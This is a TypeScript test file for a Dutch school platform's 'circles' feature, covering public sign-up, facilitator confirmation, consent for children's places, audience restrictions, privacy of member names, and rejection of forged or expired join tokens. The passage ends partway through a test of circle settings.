// Kringen: the door is open (no reason asked, by form or by table), a facilitator confirms
// places and runs meetings, topic proposals vanish when a meeting closes, evaluations show
// only from five answers, and hosts and the municipality see counts, never names.
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { sql } from 'kysely'
import { consentById, consentState } from '../src/core/consent.ts'
import { sha256 } from '../src/core/crypto.ts'
import type { CircleKind, Role } from '../src/core/db/schema.ts'
import { translator } from '../src/core/i18n/index.ts'
import type { Principal } from '../src/core/principal.ts'
import { addDays, formatWhen, schoolDate } from '../src/core/time.ts'
import { forgetJoinLinks } from '../src/features/circles/commands/door.ts'
import {
  forgetEndedPlaces,
  forgetStaleTopics,
  sendReminders,
} from '../src/features/circles/commands/upkeep.ts'
import { circleChildScope } from '../src/features/circles/index.ts'
import type { JoinRecord } from '../src/features/circles/policy.ts'
import { posterPdf } from '../src/features/circles/poster.ts'
import { getCircle } from '../src/features/circles/read/circle.ts'
import { listOutbox } from '../src/features/outbox/read/mail.ts'
import { can } from '../src/policies.ts'
import { type Client, type TestApp, testApp, visibleText } from './helpers.ts'

let t: TestApp
before(async () => {
  t = await testApp()
})
after(() => t.close())

const persona = (p: string) => `${p}@demo.kringwerk.example`
const idOf = (key: string) => {
  const id = t.seed?.ids.get(key)
  assert.ok(id, `demo id ${key}`)
  return id
}

async function as(email: string): Promise<Client> {
  const c = t.client()
  await c.signInByEmail(t.deps.db, email)
  return c
}

async function personas(name: string) {
  const c = t.client()
  await c.signInAs(name as 'parent')
  return c
}

/** A parent of De Regenboog in no circle yet, reading Dutch. */
async function freshParent(skip = 0) {
  return t.deps.db
    .selectFrom('people as p')
    .innerJoin('memberships as m', 'm.person_id', 'p.id')
    .innerJoin('schools as s', 's.id', 'm.school_id')
    .select(['p.id', 'p.email', 'p.first_name', 'p.name'])
    .where('s.name', '=', 'Basisschool De Regenboog')
    .where('m.role', '=', 'parent')
    .where('p.language', '=', 'nl')
    .where('p.email', 'not like', 'parent@%')
    .where((eb) =>
      eb.not(
        eb.exists(eb.selectFrom('circle_members').select('id').whereRef('person_id', '=', 'p.id')),
      ),
    )
    .orderBy('p.email')
    .offset(skip)
    .executeTakeFirstOrThrow()
}

const outboxFor = (email: string) =>
  t.deps.db
    .selectFrom('outbox')
    .select(['subject', 'body_text'])
    .where('to_address', '=', email)
    .orderBy('created_at', 'desc')
    .execute()

describe('the open door', () => {
  it('the join page, poster and calendar are public; the sign-up asks no reason', async () => {
    const id = idOf('circle:ouderkring')
    const anon = t.client()
    const page = await anon.get(`/circles/${id}/join`)
    assert.equal(page.status, 200)
    assert.match(page.text, /Ouderkring De Regenboog/)
    assert.match(page.text, /Alles wat in de kring gezegd wordt, blijft in de kring/)
    // The sign-up form's fields are exactly: the CSRF token, a first name, an address.
    const form = page.text.match(
      new RegExp(`<form[^>]*action="/circles/${id}/join"[\\s\\S]*?</form>`),
    )
    assert.ok(form, 'a sign-up form')
    const fields = [...form[0].matchAll(/<(?:input|textarea|select)[^>]*name="([^"]+)"/g)].map(
      (m) => m[1],
    )
    assert.deepEqual(fields.sort(), ['_csrf', 'email', 'firstName'])

    const poster = await anon.get(`/circles/${id}/poster.pdf`)
    assert.equal(poster.status, 200)
    assert.equal(poster.headers.get('content-type'), 'application/pdf')
    assert.ok(poster.text.startsWith('%PDF-'))
    // The QR code is also a link annotation to the join page.
    assert.ok(poster.text.includes(`/circles/${id}/join`), 'the poster links the join page')

    const ics = await anon.get(`/circles/${id}/calendar.ics`)
    assert.equal(ics.status, 200)
    assert.match(ics.headers.get('content-type') ?? '', /text\/calendar/)
    assert.match(ics.text, /BEGIN:VEVENT[\s\S]*SUMMARY:Ouderkring De Regenboog/)
    assert.doesNotMatch(ics.text, /ATTENDEE|@demo\.kringwerk/, 'no person in a public feed')
  })

  it('renders a poster once per content: again only when what is on it changes', async () => {
    const circle = await getCircle(t.deps.db, idOf('circle:ouderkring'))
    assert.ok(circle)
    const soon = [{ starts_at: new Date(Date.now() + 7 * 86_400_000) }]
    const url = 'http://kringwerk.test/circles/x/join'
    const first = await posterPdf(circle, soon, url)
    assert.ok(first.subarray(0, 5).toString() === '%PDF-')
    assert.equal(await posterPdf(circle, soon, url), first, 'the same rendering, not a new one')
    // Requests that arrive while a poster renders share that one rendering.
    const renamed = { ...circle, name: `${circle.name} (nieuw)` }
    const [a, b] = await Promise.all([posterPdf(renamed, soon, url), posterPdf(renamed, soon, url)])
    assert.equal(a, b)
    assert.notEqual(a, first, 'a new name is a new poster')
    assert.notEqual(await posterPdf(circle, [], url), first, 'other meetings, a new poster')
  })

  it('the members table has no column for a reason, referral or problem', async () => {
    const cols = await sql<{ column_name: string }>`
      select column_name from information_schema.columns
      where table_name = 'circle_members' order by column_name`.execute(t.deps.db)
    assert.deepEqual(
      cols.rows.map((r) => r.column_name),
      ['child_id', 'circle_id', 'created_at', 'decided_at', 'id', 'person_id', 'status'],
    )
  })

  it('a signed-in parent signs up; the facilitator confirms; the parent gets a kind mail and the meetings in their feed', async () => {
    const parent = await freshParent(0)
    const c = await as(parent.email)
    const id = idOf('circle:ouderkring')
    const page = await c.get(`/circles/${id}/join`)
    assert.match(page.text, /Meld mij aan/)
    const res = await c.post(`/circles/${id}/join`, { for: 'self' })
    assert.equal(res.status, 303)
    // The demo ouderkring had one place left: this parent waits for the facilitator.
    assert.match(res.location ?? '', /notice=joined/)
    const again = await c.post(`/circles/${id}/join`, { for: 'self' })
    assert.equal(again.status, 303, 'signing up twice is harmless')
    const rows = await t.deps.db
      .selectFrom('circle_members')
      .select(['id', 'status'])
      .where('circle_id', '=', id)
      .where('person_id', '=', parent.id)
      .execute()
    assert.equal(rows.length, 1)
    assert.equal(rows[0]?.status, 'asked')
    // The facilitators hear of it, without the name.
    const told = await outboxFor(persona('facilitator'))
    assert.match(told[0]?.subject ?? '', /Nieuwe aanmelding voor Ouderkring De Regenboog/)
    assert.equal(told[0]?.body_text.includes(parent.first_name), false)
    // Not yet a member: the circle page is closed to them, and nothing links there.
    assert.equal((await c.get(`/circles/${id}`)).status, 403)
    const waitingPage = await c.get(`/circles/${id}/join`)
    assert.doesNotMatch(waitingPage.text, new RegExp(`href="/circles/${id}"`))
    assert.match((await c.get('/circles')).text, new RegExp(`href="/circles/${id}/join"`))

    const f = await personas('facilitator')
    const fpage = await f.get(`/circles/${id}`)
    assert.equal(fpage.status, 200)
    assert.match(visibleText(fpage.text), new RegExp(parent.first_name))
    const decided = await f.post(`/circles/${id}/members/${rows[0]?.id}/decide`, {
      decision: 'confirm',
    })
    assert.equal(decided.status, 303)
    const mail = await outboxFor(parent.email)
    assert.match(mail[0]?.subject ?? '', /Welkom in Ouderkring De Regenboog/)

    const member = await c.get(`/circles/${id}`)
    assert.equal(member.status, 200)
    assert.match((await c.get('/circles')).text, new RegExp(`href="/circles/${id}"`))
    const text = visibleText(member.text)
    assert.match(text, /Wie doet mee/)
    // First names only: no member's surname or address on the page.
    const others = await t.deps.db
      .selectFrom('circle_members as cm')
      .innerJoin('people as p', 'p.id', 'cm.person_id')
      .select(['p.name', 'p.first_name', 'p.email'])
      .where('cm.circle_id', '=', id)
      .where('cm.status', '=', 'confirmed')
      .execute()
    assert.ok(others.length >= 5)
    for (const o of others) {
      assert.ok(text.includes(o.first_name), `${o.first_name} is listed`)
      assert.equal(text.includes(o.name), false, 'no full name')
      assert.equal(text.includes(o.email), false, 'no address')
    }
    const feedLink = member.text.match(/href="(\/calendar\/[^"]+\.ics)"/)?.[1]
    assert.ok(feedLink, 'a personal feed link')
    const feed = await t.client().get(feedLink)
    assert.equal(feed.status, 200)
    assert.match(feed.text, /SUMMARY:Ouderkring De Regenboog/)
    // A forged token gets nothing.
    const forged = feedLink.replace(/\.([A-Za-z0-9_-]{4})/, '.AAAA')
    assert.equal((await t.client().get(forged)).status, 404)
    // A token that only looks like one is not found either (never a database error).
    for (const fake of ['-'.repeat(36), 'a'.repeat(36), 'g'.repeat(36)]) {
      const res = await t.client().get(`/calendar/${fake}.${'A'.repeat(32)}.ics`)
      assert.equal(res.status, 404, fake)
    }

    // The link went somewhere it should not: the member replaces it from the circles page.
    const list = await c.get('/circles')
    assert.ok(list.text.includes(feedLink), 'the circles page shows the same link')
    assert.match(list.text, /action="\/calendar\/renew"/)
    const otherMember = await personas('parent')
    const otherLink = (await otherMember.get('/circles')).text.match(
      /href="(\/calendar\/[^"]+\.ics)"/,
    )?.[1]
    const renewed = await c.post('/calendar/renew', {})
    assert.equal(renewed.status, 303)
    assert.match(renewed.location ?? '', /notice=feedRenewed/)
    assert.equal((await t.client().get(feedLink)).status, 404, 'the old link stops working')
    const after = await c.get(`/circles/${id}`)
    const newLink = after.text.match(/href="(\/calendar\/[^"]+\.ics)"/)?.[1]
    assert.ok(newLink && newLink !== feedLink, 'the circle page shows the new link')
    const fresh = await t.client().get(newLink)
    assert.equal(fresh.status, 200)
    assert.match(fresh.text, /SUMMARY:Ouderkring De Regenboog/)
    // Nobody else's link changed.
    assert.ok(otherLink, 'the demo parent takes part in a circle too')
    assert.equal((await t.client().get(otherLink)).status, 200)
    // Without the CSRF token nothing changes.
    const refused = await c.post('/calendar/renew', {}, { csrf: false })
    assert.equal(refused.status, 403)
    assert.equal((await t.client().get(newLink)).status, 200)
  })

  it('beyond capacity a sign-up goes on the waiting list, and confirming beyond capacity is refused', async () => {
    const id = idOf('circle:ouderkring')
    const parent = await freshParent(1)
    const c = await as(parent.email)
    const res = await c.post(`/circles/${id}/join`, { for: 'self' })
    assert.match(res.location ?? '', /notice=waitlisted/)
    const row = await t.deps.db
      .selectFrom('circle_members')
      .select(['id', 'status'])
      .where('circle_id', '=', id)
      .where('person_id', '=', parent.id)
      .executeTakeFirstOrThrow()
    assert.equal(row.status, 'waitlist')
    // Fill the circle to capacity, then try to confirm the waiting parent.
    const f = await personas('facilitator')
    const waiting = await t.deps.db
      .selectFrom('circle_members')
      .select('id')
      .where('circle_id', '=', id)
      .where('status', '=', 'asked')
      .execute()
    for (const w of waiting)
      await f.post(`/circles/${id}/members/${w.id}/decide`, { decision: 'confirm' })
    const full = await f.post(`/circles/${id}/members/${row.id}/decide`, { decision: 'confirm' })
    assert.equal(full.status, 400)
    assert.match(full.text, /De kring is vol/)
    const declined = await f.post(`/circles/${id}/members/${row.id}/decide`, {
      decision: 'decline',
    })
    assert.equal(declined.status, 303)
    const mail = await outboxFor(parent.email)
    assert.match(mail[0]?.body_text ?? '', /geen plaats/)
    assert.match(mail[0]?.body_text ?? '', /altijd welkom/)
    // A waiting place can be given back from the join page.
    const other = await as((await freshParent(2)).email)
    await other.post(`/circles/${id}/join`, { for: 'self' })
    const join = await other.get(`/circles/${id}/join`)
    const memberId = join.text.match(/name="memberId" value="([^"]+)"/)?.[1]
    assert.ok(memberId, 'a leave button next to the waiting place')
    assert.equal((await other.post(`/circles/${id}/leave`, { memberId })).status, 303)
    const gone = await t.deps.db
      .selectFrom('circle_members')
      .select('status')
      .where('id', '=', memberId)
      .executeTakeFirstOrThrow()
    assert.equal(gone.status, 'left')
  })

  it('without an account: a first name and an address; the same answer whether the address is known or not', async () => {
    const id = idOf('circle:mantelzorgkring')
    const anon = t.client()
    const bad = await anon.post(`/circles/${id}/join`, { firstName: '', email: 'nope' })
    assert.equal(bad.status, 400)
    assert.match(bad.text, /Vul een goed e-mailadres in/)
    const unknown = await anon.post(`/circles/${id}/join`, {
      firstName: 'Greet',
      email: 'greet.mantelzorg@example.org',
    })
    const known = await t
      .client()
      .post(`/circles/${id}/join`, { firstName: 'X', email: persona('teacher') })
    assert.equal(unknown.status, 200)
    assert.equal(known.status, 200)
    assert.equal(visibleText(unknown.text), visibleText(known.text))
    assert.match(visibleText(unknown.text), /We hebben u een mail gestuurd over Mantelzorgkring/)
    // A child's circle needs a parent who signs in: no anonymous sign-up.
    const kid = await t.client().get(`/circles/${idOf('circle:kinderkring')}/join`)
    assert.match(kid.text, /Log in om uw kind aan te melden/)
    assert.doesNotMatch(kid.text, /name="email"/)
  })

  it('the mailed link of a sign-up names the circle and its first meeting, and one press takes the place and signs in', async () => {
    const id = idOf('circle:mantelzorgkring')
    const db = t.deps.db
    const email = 'henk.mantelzorg@example.org'
    assert.equal(
      (await t.client().post(`/circles/${id}/join`, { firstName: 'Henk', email })).status,
      200,
    )
    await t.deps.background.settled()
    const [mail] = await outboxFor(email)
    assert.ok(mail, 'a mail went out')
    assert.equal(mail.subject, 'Bevestig uw aanmelding voor Mantelzorgkring')
    const circle = await getCircle(db, id)
    const [first] = await db
      .selectFrom('circle_meetings')
      .select('starts_at')
      .where('circle_id', '=', id)
      .where('status', '=', 'planned')
      .where('starts_at', '>', new Date())
      .orderBy('starts_at')
      .limit(1)
      .execute()
    assert.ok(circle && first)
    assert.ok(
      mail.body_text.includes(
        `De eerste bijeenkomst: ${formatWhen('nl', first.starts_at)}, ${circle.place}.`,
      ),
      'the mail names the first meeting: date, time and place',
    )
    assert.match(mail.body_text, /Hallo Henk/)
    assert.match(mail.body_text, /Basisschool De Regenboog/)
    const link = new URL(mail.body_text.match(/https?:\/\/\S+/)?.[0] ?? '')
    assert.equal(link.pathname, `/circles/${id}/join`)
    // The link carries a secret only: no circle, person or next page to change.
    assert.deepEqual([...link.searchParams.keys()], ['token'])
    const token = link.searchParams.get('token') ?? ''
    const henk = await db
      .selectFrom('people')
      .select('id')
      .where('email', '=', email)
      .executeTakeFirstOrThrow()
    const placesOfHenk = () =>
      db
        .selectFrom('circle_members')
        .select(['circle_id', 'status'])
        .where('person_id', '=', henk.id)
        .execute()
    assert.deepEqual(await placesOfHenk(), [], 'no place before the link is pressed')

    // Opening the link (or a mail scanner doing so) takes nothing: it asks for one press.
    const browser = t.client()
    const landing = await browser.get(`${link.pathname}${link.search}`)
    assert.equal(landing.status, 200)
    const text = visibleText(landing.text)
    assert.match(text, /Bevestig uw aanmelding/)
    assert.match(text, /Ja, meld mij aan/)
    assert.ok(text.includes(`De eerste bijeenkomst: ${formatWhen('nl', first.starts_at)}`))
    assert.doesNotMatch(landing.text, /name="email"/, 'no second sign-up form')
    assert.deepEqual(await placesOfHenk(), [])

    const pressed = await browser.post(`/circles/${id}/join`, { token })
    assert.equal(pressed.status, 303)
    assert.equal(pressed.location, `/circles/${id}/join?notice=joinConfirmed`)
    assert.deepEqual(await placesOfHenk(), [{ circle_id: id, status: 'asked' }])
    const after = await browser.get(pressed.location ?? '')
    const shown = visibleText(after.text)
    assert.match(shown, /Uw aanmelding is bevestigd en u bent ingelogd/)
    assert.match(shown, /Uw plaats aangemeld, wacht op de begeleider/)
    assert.doesNotMatch(shown, /Meld mij aan/)
    const mine = visibleText((await browser.get('/circles')).text)
    assert.match(mine, /Mijn kringen Mantelzorgkring .*aangemeld, wacht op de begeleider/)
    assert.equal((await browser.get('/home')).status, 200)
    // Henk holds no role: nothing of the school beyond the circle's public facts.
    assert.equal((await browser.get('/people')).status, 403)
    // The facilitators hear of a new sign-up, without a name.
    await t.deps.background.settled()
    const [told] = await outboxFor(persona('brugfiguur'))
    assert.equal(told?.subject, 'Nieuwe aanmelding voor Mantelzorgkring')
    assert.doesNotMatch(told?.body_text ?? '', /Henk/)

    // Pressed again, or by anyone else: the link is spent and does nothing.
    const replay = t.client()
    const again = await replay.post(`/circles/${id}/join`, { token })
    assert.equal(again.status, 400)
    assert.match(visibleText(again.text), /Deze link werkt niet meer/)
    assert.equal(replay.cookies.has('kw_session'), false, 'a spent link signs nobody in')
    assert.match(
      visibleText((await replay.get(`${link.pathname}${link.search}`)).text),
      /Deze link werkt niet meer/,
    )
    assert.equal((await placesOfHenk()).length, 1)
  })

  it('a join link is bound to its circle and its person on the server, and expires', async () => {
    const db = t.deps.db
    const mantelzorg = idOf('circle:mantelzorgkring')
    const ouderkring = idOf('circle:ouderkring')
    const email = 'ria.buurvrouw@example.org'
    await t.client().post(`/circles/${mantelzorg}/join`, { firstName: 'Ria', email })
    await t.deps.background.settled()
    const token =
      new URL(
        (await outboxFor(email))[0]?.body_text.match(/https?:\/\/\S+/)?.[0] ?? '',
      ).searchParams.get('token') ?? ''
    const ria = await db
      .selectFrom('people')
      .select('id')
      .where('email', '=', email)
      .executeTakeFirstOrThrow()
    const places = () =>
      db.selectFrom('circle_members').select('circle_id').where('person_id', '=', ria.id).execute()
    // Posted to another circle's page, the link takes no place there (nor in its own).
    const elsewhere = await t.client().post(`/circles/${ouderkring}/join`, { token })
    assert.equal(elsewhere.status, 400)
    assert.deepEqual(await places(), [])
    // Only the secret is stored, as a hash.
    const stored = await db
      .selectFrom('circle_join_links')
      .select(['link_hash', 'circle_id'])
      .where('person_id', '=', ria.id)
      .execute()
    assert.equal(stored.length, 1)
    assert.notEqual(stored[0]?.link_hash, token)
    assert.equal(stored[0]?.circle_id, mantelzorg)
    // Once expired, it does nothing, and the upkeep forgets it.
    await db
      .updateTable('circle_join_links')
      .set({ expires_at: new Date(Date.now() - 60_000) })
      .where('person_id', '=', ria.id)
      .execute()
    const stale = t.client()
    const expired = await stale.post(`/circles/${mantelzorg}/join`, { token })
    assert.equal(expired.status, 400)
    assert.equal(stale.cookies.has('kw_session'), false)
    assert.deepEqual(await places(), [])
    assert.ok((await forgetJoinLinks(db)) >= 1)
    assert.deepEqual(
      await db
        .selectFrom('circle_join_links')
        .select('id')
        .where('person_id', '=', ria.id)
        .execute(),
      [],
    )
    // A newer sign-up's link voids the older one.
    await t.client().post(`/circles/${mantelzorg}/join`, { firstName: 'Ria', email })
    await t.client().post(`/circles/${mantelzorg}/join`, { firstName: 'Ria', email })
    await t.deps.background.settled()
    const [newest, older] = (await outboxFor(email)).map(
      (m) =>
        new URL(m.body_text.match(/https?:\/\/\S+/)?.[0] ?? '').searchParams.get('token') ?? '',
    )
    assert.ok(newest && older && newest !== older)
    assert.equal(
      (await t.client().post(`/circles/${mantelzorg}/join`, { token: older })).status,
      400,
    )
    assert.equal(
      (await t.client().post(`/circles/${mantelzorg}/join`, { token: newest })).status,
      303,
    )
    assert.deepEqual(await places(), [{ circle_id: mantelzorg }])
  })

  it("a parent takes a child's place only with consent, and only for their own child", async () => {
    const id = idOf('circle:voedselbank')
    const c = await personas('parent')
    const page = await c.get(`/circles/${id}/join`)
    // Ilyas already has a place (waiting); Amira can still be signed up.
    assert.match(page.text, /Amira/)
    const amira = idOf('child:persona:parent:child0')
    const noConsent = await c.post(`/circles/${id}/join`, { for: amira })
    assert.equal(noConsent.status, 400)
    assert.match(noConsent.text, /toestemming/)
    const otherChild = idOf('child:regenboog:family3:child0')
    const notMine = await c.post(`/circles/${id}/join`, { for: otherChild, consent: 'yes' })
    assert.equal(notMine.status, 404)
    const ok = await c.post(`/circles/${id}/join`, { for: amira, consent: 'yes' })
    assert.equal(ok.status, 303)
    const row = await t.deps.db
      .selectFrom('circle_members as cm')
      .innerJoin('children as ch', 'ch.id', 'cm.child_id')
      .select(['cm.id', 'cm.person_id', 'ch.school_id'])
      .where('cm.circle_id', '=', id)
      .where('cm.child_id', '=', amira)
      .executeTakeFirstOrThrow()
    // The consent is in the one ledger: the parent's, in the child's school, given by them.
    const consents = await t.deps.db
      .selectFrom('consents')
      .select(['person_id', 'school_id', 'granted_at', 'granted_by', 'withdrawn_at'])
      .where('scope', '=', `circle.child:${row.id}`)
      .execute()
    assert.equal(consents.length, 1)
    const [consent] = consents
    assert.equal(consent?.person_id, idOf('person:persona:parent'))
    assert.equal(consent?.person_id, row.person_id)
    assert.equal(consent?.school_id, row.school_id)
    assert.equal(consent?.granted_by, row.person_id)
    assert.ok(consent?.granted_at instanceof Date)
    assert.equal(consent?.withdrawn_at, null)
    // And it is on the parent's consents page, by the child's first name and the circle.
    const mine = visibleText((await c.get('/profile/consents')).text)
    assert.match(mine, /Mijn kind doet mee aan een kring: Amira · Samen sterk/)
  })

  it('withdrawing that consent ends the place; a new sign-up is a new consent; leaving withdraws it', async () => {
    const id = idOf('circle:voedselbank')
    const amira = idOf('child:persona:parent:child0')
    const parentId = idOf('person:persona:parent')
    const db = t.deps.db
    const place = () =>
      db
        .selectFrom('circle_members')
        .select(['id', 'status', 'decided_at'])
        .where('circle_id', '=', id)
        .where('child_id', '=', amira)
        .executeTakeFirstOrThrow()
    const ledger = (memberId: string) =>
      db
        .selectFrom('consents')
        .select(['id', 'school_id', 'withdrawn_at', 'withdrawn_by'])
        .where('scope', '=', `circle.child:${memberId}`)
        .orderBy('granted_at')
        .orderBy('id')
        .execute()
    const c = await personas('parent')
    if ((await place().catch(() => null))?.status !== 'asked')
      await c.post(`/circles/${id}/join`, { for: amira, consent: 'yes' })
    const before = await place()
    assert.ok(['asked', 'waitlist'].includes(before.status))
    const [given] = await ledger(before.id)
    assert.ok(given && given.withdrawn_at === null)
    const record = await consentById(db, given.school_id, given.id)
    assert.ok(record)
    assert.equal(await t.deps.consents.withdraw(t.deps, record), true)
    const ended = await place()
    assert.equal(ended.status, 'left', 'the place ends with the consent it rested on')
    assert.ok(ended.decided_at instanceof Date)
    assert.ok((await ledger(before.id))[0]?.withdrawn_at instanceof Date)

    // Signing up again is a new yes, on the same place.
    assert.ok((await c.get(`/circles/${id}/join`)).text.includes(`value="${amira}"`))
    assert.equal((await c.post(`/circles/${id}/join`, { for: amira, consent: 'yes' })).status, 303)
    const again = await place()
    assert.equal(again.id, before.id)
    assert.ok(['asked', 'waitlist'].includes(again.status))
    const rows = await ledger(again.id)
    assert.equal(rows.length, 2)
    assert.equal(rows[1]?.withdrawn_at, null, 'the newest word is a yes')
    assert.equal(
      await consentState(db, {
        schoolId: given.school_id,
        personId: parentId,
        scope: circleChildScope.of(again.id),
      }),
      'given',
    )

    // Leaving the place takes the consent back.
    assert.equal((await c.post(`/circles/${id}/leave`, { memberId: again.id })).status, 303)
    assert.equal((await place()).status, 'left')
    const left = await ledger(again.id)
    assert.ok(left.every((r) => r.withdrawn_at instanceof Date))
    assert.equal(left[1]?.withdrawn_by, parentId)

    // A place the facilitator declines no longer rests on the consent either.
    assert.equal((await c.post(`/circles/${id}/join`, { for: amira, consent: 'yes' })).status, 303)
    // (Samen sterk is facilitated by the brugfiguur.)
    const f = await personas('brugfiguur')
    const declined = await f.post(`/circles/${id}/members/${again.id}/decide`, {
      decision: 'decline',
    })
    assert.equal(declined.status, 303)
    assert.equal((await place()).status, 'declined')
    const last = (await ledger(again.id)).at(-1)
    assert.ok(last?.withdrawn_at instanceof Date)
    assert.equal(last?.withdrawn_by, idOf('person:persona:brugfiguur'))
  })
})

describe('circles open only to their audience', () => {
  it('the join rule over the facts of the record: the team for a leerkrachtkring, the named groups for a kinderkring', () => {
    const school = 'school-a'
    const who = (roles: Role[], personId = 'me', schoolId: string | null = school): Principal => ({
      sessionId: 's',
      personId,
      name: 'N',
      firstName: 'N',
      email: 'n@example.org',
      language: 'nl',
      schoolId,
      schoolName: null,
      roles,
      memberships: [],
      children: [],
    })
    const env = { demo: false }
    const circle = (kind: CircleKind, grades: number[] | null = null) => ({
      kind,
      audience: kind === 'kinder' ? ('child' as const) : ('adult' as const),
      schoolIds: [school],
      grades,
    })
    const child = (grade: number, guardianIds = ['me'], schoolId = school) => ({
      schoolId,
      grade,
      guardianIds,
    })
    const join = (p: Principal | null, r: JoinRecord) => can(p, 'circles.join', r, env)
    // Own places: the open door for everyone, the leerkrachtkring for its school's team only.
    const people: [string, Principal | null, boolean][] = [
      ['signed out', null, false],
      ['parent', who(['parent']), false],
      ['partner', who(['partner']), false],
      ['municipal', who(['municipal']), false],
      ['teacher', who(['teacher']), true],
      ['ib', who(['ib']), true],
      ['director', who(['director']), true],
      ['brugfiguur', who(['brugfiguur']), true],
      ['teacher of another school', who(['teacher'], 'me', 'school-b'), false],
      ['no school', who([], 'me', null), false],
    ]
    for (const [name, p, team] of people) {
      assert.equal(join(p, circle('ouder')), true, `${name}: the ouderkring`)
      assert.equal(join(p, circle('mantelzorg')), true, `${name}: the mantelzorgkring`)
      assert.equal(join(p, circle('leerkracht')), team, `${name}: the leerkrachtkring`)
      assert.equal(
        join(p, { ...circle('ouder'), child: child(6) }),
        false,
        `${name}: a child in an adult circle`,
      )
    }
    // A child's place: by a guardian, for a child of the circle's schools, in a named group.
    const parent = who(['parent'])
    const groups = circle('kinder', [6, 7, 8])
    for (const grade of [1, 3, 5])
      assert.equal(join(parent, { ...groups, child: child(grade) }), false)
    for (const grade of [6, 7, 8])
      assert.equal(join(parent, { ...groups, child: child(grade) }), true)
    assert.equal(join(parent, { ...circle('kinder'), child: child(1) }), true, 'every group')
    assert.equal(join(parent, groups), false, 'no child named')
    assert.equal(join(null, { ...groups, child: child(7) }), false, 'signed out')
    assert.equal(join(parent, { ...groups, child: child(7, ['other']) }), false, 'not theirs')
    assert.equal(
      join(parent, { ...groups, child: child(7, ['me'], 'school-b') }),
      false,
      'another school',
    )
    assert.equal(join(parent, undefined as unknown as JoinRecord), false, 'no record, no place')
  })

  it('a leerkrachtkring is for the team: no form for a visitor, refused to a parent who posts, not listed to parents', async () => {
    const id = idOf('circle:leerkrachtkring')
    const db = t.deps.db
    const anon = t.client()
    const page = await anon.get(`/circles/${id}/join`)
    assert.equal(page.status, 200)
    assert.match(visibleText(page.text), /Deze kring is voor het team van Basisschool De Regenboog/)
    assert.doesNotMatch(page.text, /name="email"|name="firstName"|name="for"/)
    assert.match(page.text, /Werkt u op deze school\? Log in om u aan te melden/)
    // Posting the sign-up anyway makes nobody and mails nothing.
    const email = 'niet.van.het.team@example.org'
    const posted = await anon.post(`/circles/${id}/join`, { firstName: 'Kees', email })
    assert.equal(posted.status, 403)
    await t.deps.background.settled()
    assert.deepEqual(await outboxFor(email), [])
    assert.equal(
      await db.selectFrom('people').select('id').where('email', '=', email).executeTakeFirst(),
      undefined,
    )

    const parent = await personas('parent')
    const parentId = idOf('person:persona:parent')
    const seen = visibleText((await parent.get(`/circles/${id}/join`)).text)
    assert.match(seen, /Deze kring is alleen voor het team van de school/)
    assert.doesNotMatch(seen, /Meld mij aan/)
    assert.equal((await parent.post(`/circles/${id}/join`, { for: 'self' })).status, 403)
    const placesOf = (personId: string) =>
      db
        .selectFrom('circle_members')
        .select('status')
        .where('circle_id', '=', id)
        .where('person_id', '=', personId)
        .execute()
    assert.deepEqual(await placesOf(parentId), [])
    assert.doesNotMatch(visibleText((await parent.get('/circles')).text), /Leerkrachtkring/)

    // A link made for it (say, before it was the team's) is never honoured either.
    const token = 'x'.repeat(43)
    await db
      .insertInto('circle_join_links')
      .values({
        circle_id: id,
        person_id: parentId,
        link_hash: sha256(token),
        expires_at: new Date(Date.now() + 600_000),
      })
      .execute()
    const pressed = t.client()
    assert.equal((await pressed.post(`/circles/${id}/join`, { token })).status, 403)
    assert.equal(pressed.cookies.has('kw_session'), false)
    assert.deepEqual(await placesOf(parentId), [])

    // A teacher of the school finds it, and signs up with one press.
    const teacher = await personas('teacher')
    const teacherId = idOf('person:persona:teacher')
    const listed = visibleText((await teacher.get('/circles')).text)
    assert.match(listed, /Kringen waar u aan mee kunt doen .*Leerkrachtkring/)
    assert.match((await teacher.get(`/circles/${id}/join`)).text, /Meld mij aan/)
    assert.equal((await teacher.post(`/circles/${id}/join`, { for: 'self' })).status, 303)
    assert.equal((await placesOf(teacherId)).length, 1)
  })

  it('a kinderkring for groep 6 to 8 offers only children of those groups, and refuses a groep 1/2 child posted by id', async () => {
    const id = idOf('circle:kinderkring')
    const db = t.deps.db
    const amira = idOf('child:persona:parent:child0')
    const parent = await personas('parent')
    const page = await parent.get(`/circles/${id}/join`)
    const text = visibleText(page.text)
    assert.match(text, /Deze kring is voor kinderen uit groep 6, 7 en 8/)
    assert.match(text, /Uw kind zit niet in een groep van deze kring/)
    assert.doesNotMatch(page.text, /name="for"/)
    assert.doesNotMatch(text, /Amira|Ilyas/)
    const posted = await parent.post(`/circles/${id}/join`, { for: amira, consent: 'yes' })
    assert.equal(posted.status, 403)
    const held = await db
      .selectFrom('circle_members')
      .select('id')
      .where('circle_id', '=', id)
      .where('child_id', '=', amira)
      .execute()
    assert.deepEqual(held, [], 'no place')
    assert.doesNotMatch(visibleText((await parent.get('/circles')).text), /Kinderkring groep 6/)

    // The parent of a groep 6-8 child not yet in it is offered that child, and only that one.
    const fits = await db
      .selectFrom('children as ch')
      .innerJoin('groups as gr', 'gr.id', 'ch.group_id')
      .innerJoin('guardianships as g', 'g.child_id', 'ch.id')
      .innerJoin('people as p', 'p.id', 'g.person_id')
      .innerJoin('schools as s', 's.id', 'ch.school_id')
      .select(['ch.id', 'p.email', 'p.id as personId'])
      .where('s.name', '=', 'Basisschool De Regenboog')
      .where('gr.grade', '>=', 6)
      .where((eb) =>
        eb.not(
          eb.exists(
            eb
              .selectFrom('circle_members as cm')
              .select('cm.id')
              .whereRef('cm.child_id', '=', 'ch.id')
              .where('cm.circle_id', '=', id),
          ),
        ),
      )
      .orderBy('p.email')
      .executeTakeFirstOrThrow()
    const other = await as(fits.email)
    const offered = await other.get(`/circles/${id}/join`)
    const radios = [...offered.text.matchAll(/name="for" value="([^"]+)"/g)].map((m) => m[1])
    assert.ok(radios.includes(fits.id), 'the groep 6-8 child is offered')
    const grades = await db
      .selectFrom('children as ch')
      .innerJoin('groups as gr', 'gr.id', 'ch.group_id')
      .select('gr.grade')
      .where('ch.id', 'in', radios as string[])
      .execute()
    assert.ok(
      grades.every((g) => g.grade >= 6),
      'and no child of another group',
    )
    assert.equal(
      (await other.post(`/circles/${id}/join`, { for: fits.id, consent: 'yes' })).status,
      303,
    )

    // The host names the groups in the settings: with groep 5 added, Ilyas may take a place.
    const director = await personas('director')
    const settings = new URLSearchParams([
      ['_csrf', director.csrf],
      ['facilitators', idOf('person:persona:facilitator')],
      ['capacity', '8'],
      ['status', 'open'],
